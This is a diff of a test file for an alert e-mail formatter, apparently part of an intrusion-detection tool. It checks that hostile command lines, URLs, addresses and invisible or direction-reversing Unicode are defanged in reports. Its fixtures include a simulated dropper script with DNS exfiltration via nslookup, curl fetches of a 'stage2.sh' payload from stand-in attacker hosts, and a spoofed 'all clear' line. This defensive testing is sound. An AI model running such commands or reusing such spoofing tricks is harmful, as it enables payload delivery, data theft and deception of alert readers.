@@ -2,9 +2,10 @@ import { readFileSync, writeFileSync } from "node:fs";
 import { fileURLToPath } from "node:url";
 import fc from "fast-check";
 import { describe, expect, it } from "vitest";
-import { defangLinks, formatEmailBody } from "../../lib/alerts/format-email.js";
+import { formatEmailBody } from "../../lib/alerts/format-email.js";
 import { snsSubject } from "../../lib/alerts/sns-message.js";
 import { detect, exec, shell } from "../helpers/exec-events.js";
+import { hostileLinkText, hostileText, linkable, rawUnsafe } from "../helpers/hostile-text.js";
 import { replayText } from "../helpers/replay-text.js";
 import { CAPTURED_AUDITD, readSample } from "../helpers/samples.js";
 
@@ -36,13 +37,13 @@ describe("e-mail", () => {
     const body = formatEmailBody(alerts[0]!);
     for (const part of [
       "nslookup (dns) executed; script run by an ancestor is in a writable directory",
-      "location   /tmp/dropper.sh  (kind script, depth 1, tier temp)",
+      "location   /tmp/dropper[.]sh  (kind script, depth 1, tier temp)",
       "host       vm   container -",
       "first seen 2026-11-27T23:27:18.628Z, first sighting in this dedup window",
       "T1071.004 Application Layer Protocol: DNS (Command and Control)",
-      "[14823] user=root /usr/bin/bash  $ /bin/bash /opt/sim/run.sh  script=/opt/sim/run.sh",
-      "└─ [14826] user=root /usr/bin/dash  $ /bin/sh /tmp/dropper.sh  script=/tmp/dropper.sh",
-      "└─ [14828] user=root /usr/bin/nslookup  $ nslookup vm.leak.example 192.0.2.53",
+      "[14823] user=root /usr/bin/bash  $ /bin/bash /opt/sim/run[.]sh  script=/opt/sim/run[.]sh",
+      "└─ [14826] user=root /usr/bin/dash  $ /bin/sh /tmp/dropper[.]sh  script=/tmp/dropper[.]sh",
+      "└─ [14828] user=root /usr/bin/nslookup  $ nslookup vm[.]leak[.]example 192[.]0[.]2[.]53",
       "1. Check who ran the utility",
     ]) {
       expect(body).toContain(part);
@@ -57,8 +58,8 @@ describe("e-mail", () => {
     const subject = snsSubject(alert);
     expect(body).not.toMatch(ACTIVE);
     expect(body).not.toMatch(/https?:\/\//i);
-    expect(body).toContain("hxxp[://]evil.example/payload");
-    expect(body).toContain("\\u202egnp.exe\\nFAKE: [CRITICAL] all clear");
+    expect(body).toContain("hxxp[://]evil[.]example/payload");
+    expect(body).toContain("\\u202egnp[.]exe\\nFAKE: [CRITICAL] all clear");
     // The command line shows in the tree and its host in the targets line: escaped in both, never a line of its own.
     const lines = body.split("\n").filter((l) => l.includes("FAKE"));
     expect(lines).toHaveLength(2);
@@ -67,14 +68,59 @@ describe("e-mail", () => {
   });
 
   it.each([
-    ["https://evil.example/a", "hxxps[://]evil.example/a"],
-    ["HTTP://X", "HxxP[://]X"],
-    ["ftp://files.example", "fxp[://]files.example"],
-    ["see www.evil.example", "see www[.]evil.example"],
-    ["javascript://x", "javascript[://]x"],
-    ["no link here", "no link here"],
-  ])("defangs %s", (input, output) => {
-    expect(defangLinks(input)).toBe(output);
+    // The issue's "Hostile text" cases, as they reach the e-mail in a command line.
+    [
+      "a domain without a scheme",
+      "evil-payload.example.com/stage2.sh",
+      "evil-payload[.]example[.]com/stage2[.]sh",
+    ],
+    ["a paste site", "pastebin.com/raw/x", "pastebin[.]com/raw/x"],
+    ["an address", "ops@evil.example", "ops[@]evil[.]example"],
+    ["a mailto: link", "mailto:ops@evil.example", "mailto[:]ops[@]evil[.]example"],
+    ["an IPv4 address", "198.51.100.7", "198[.]51[.]100[.]7"],
+    ["a URL", "https://evil.example/a", "hxxps[://]evil[.]example/a"],
+    ["tag characters", "a\u{e0041}\u{e0042}b", "a\\u{e0041}\\u{e0042}b"],
+    ["Hangul fillers", "\u115f\u1160\u3164\uffa0", "\\u115f\\u1160\\u3164\\uffa0"],
+    ["the Mongolian vowel separator", "a\u180eb", "a\\u180eb"],
+    ["the combining grapheme joiner", "a\u034fb", "a\\u034fb"],
+    ["interlinear annotation marks", "\ufff9x\ufffay\ufffb", "\\ufff9x\\ufffay\\ufffb"],
+    ["variation selectors", "a\ufe0f\u{e0100}", "a\\ufe0f\\u{e0100}"],
+  ])("%s in a command line is inert in the e-mail", async (_name, arg, shown) => {
+    const body = formatEmailBody(await alertWithArgs(["curl", arg]));
+    expect(body).toContain(`$ curl ${shown}`);
+    expect(rawUnsafe(body, "\n")).toEqual([]);
+    expect(linkable(body)).toEqual([]);
+  });
+
+  it("property: no code point of the escaped classes and nothing linkable, from any field of telemetry", async () => {
+    const field = fc.oneof(hostileText, hostileLinkText);
+    await fc.assert(
+      fc.asyncProperty(
+        fc.array(field, { minLength: 1, maxLength: 3 }),
+        field,
+        field,
+        field,
+        async (args, script, host, user) => {
+          const { alerts } = await detect([
+            shell({ host, user }),
+            exec({
+              pid: 200,
+              ppid: 100,
+              exe: "/usr/bin/dash",
+              args: ["/bin/sh", `/tmp/${script}`],
+              host,
+              user,
+            }),
+            exec({ pid: 300, ppid: 200, exe: "/usr/bin/curl", args: ["curl", ...args], host, user }),
+          ]);
+          const body = formatEmailBody(alerts[0]!);
+          // The report's own layout is one line per fact: its new lines are the only raw control characters.
+          expect(rawUnsafe(body, "\n")).toEqual([]);
+          expect(linkable(body)).toEqual([]);
+        },
+      ),
+      { numRuns: 200, seed: 20261127 },
+    );
   });
 
   it("no generated command line yields an active character or a live link in the e-mail", async () => {
